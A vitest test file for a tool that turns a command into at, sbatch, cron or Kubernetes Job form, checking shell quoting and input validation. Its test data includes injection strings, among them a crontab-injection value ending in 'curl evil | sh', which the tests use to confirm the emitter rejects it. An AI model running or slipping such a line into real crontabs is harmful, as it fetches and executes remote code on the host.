import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { commandLine, emit, shellQuote } from './emit.js';

const START = '2024-06-01T08:05:09Z';
const NASTY = ['it\'s', 'a "b" c', '$HOME', '`id`', 'x;y', '', '50%', 'tab\there', '!bang', '*'];

/** What a POSIX shell makes of a command line: the argv it would pass on. */
function argvOf(line: string): string[] {
  const show = `${shellQuote(process.execPath)} -e 'console.log(JSON.stringify(process.argv.slice(1)))'`;
  const r = spawnSync('sh', ['-c', `${show} ${line}`], { encoding: 'utf8' });
  expect(r.stderr).toBe('');
  return JSON.parse(r.stdout) as string[];
}

/** The output of a shell command (how sh reads an emitted line's quoting). */
function sh(script: string): string {
  return spawnSync('sh', ['-c', script], { encoding: 'utf8' }).stdout;
}

describe('shell quoting', () => {
  it('round-trips every argument through sh unchanged', () => {
    expect(argvOf(commandLine(NASTY))).toEqual(NASTY);
    expect(shellQuote('train.py')).toBe('train.py');
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('')).toBe(`''`);
  });
});

describe('scheduler forms', () => {
  const command = ['python', 'train.py', '--name', 'my "big" run', "it's"];

  it('at: -t CCYYMMDDhhmm.ss in UTC, the command in a quoted here-document', () => {
    const out = emit('at', { start: START, command });
    const lines = out.split('\n');
    expect(out).toMatch(/TZ=UTC/);
    expect(lines[1]).toBe("TZ=UTC at -t 202406010805.09 <<'GREENOPS_JOB'");
    expect(lines.at(-1)).toBe('GREENOPS_JOB');
    expect(argvOf(lines[2]!)).toEqual(command);
  });

  it('sbatch: --begin in UTC and --wrap holding the quoted command line', () => {
    const out = emit('sbatch', { start: START, command });
    const line = out.split('\n')[1]!;
    expect(line).toMatch(/^TZ=UTC sbatch --begin=2024-06-01T08:05:09 --wrap=/);
    const wrapped = sh(`printf '%s' ${line.slice(line.indexOf('--wrap='))}`).slice('--wrap='.length);
    expect(argvOf(wrapped)).toEqual(command);
  });

  it('cron: CRON_TZ=UTC, that minute, a one-year guard, % escaped', () => {
    const out = emit('cron', { start: START, command: ['echo', '50%', 'done'] });
    expect(out).toMatch(/cron runs in the machine's time zone/);
    const lines = out.split('\n');
    expect(lines).toContain('CRON_TZ=UTC');
    const entry = lines.at(-1)!;
    expect(entry.startsWith('5 8 1 6 * ')).toBe(true);
    expect(entry).not.toMatch(/[^\\]%/);
    // cron turns \% back into %, then hands the rest of the line to sh
    const command2 = entry.split(' ').slice(5).join(' ').replace(/\\%/g, '%');
    expect(sh(command2.replace('= 2024 ]', `= ${new Date().getUTCFullYear()} ]`))).toBe('50% done\n');
  });

  it('k8s: a batch/v1 Job waiting in an init container, the command in exec form', () => {
    const out = emit('k8s', { start: START, command, image: 'ghcr.io/acme/train:1' });
    const [doc] = parseAllDocuments(out);
    const job = doc!.toJS() as { apiVersion: string; kind: string; metadata: { name: string }; spec: { template: { spec: Record<string, Array<{ command: string[]; image: string }>> } } };
    expect([job.apiVersion, job.kind, job.metadata.name]).toEqual(['batch/v1', 'Job', 'greenops-202406010805']);
    const pod = job.spec.template.spec;
    expect(pod['containers']![0]!.command).toEqual(command);
    expect(pod['initContainers']![0]!.command.at(-1)).toMatch(/^t=1717229109; now=\$\(date \+%s\)/);
    expect(out).toMatch(/spec\.suspend/);
    expect(() => emit('k8s', { start: START, command })).toThrow(/--image/);
    expect(() => emit('k8s', { start: START, command, image: 'x', name: 'Bad_Name' })).toThrow(/Kubernetes name/);
  });

  it('refuses a line break inside an argument (a crontab would read a second entry)', () => {
    for (const form of ['at', 'sbatch', 'cron', 'k8s'] as const) {
      expect(() => emit(form, { start: '2024-06-01T08:00:00Z', command: ['echo', 'a\n* * * * * curl evil | sh'], image: 'x' })).toThrow(/line break/);
    }
  });

  it('refuses an empty command', () => {
    expect(() => emit('at', { start: START, command: [] })).toThrow(/no command to schedule/);
  });
});
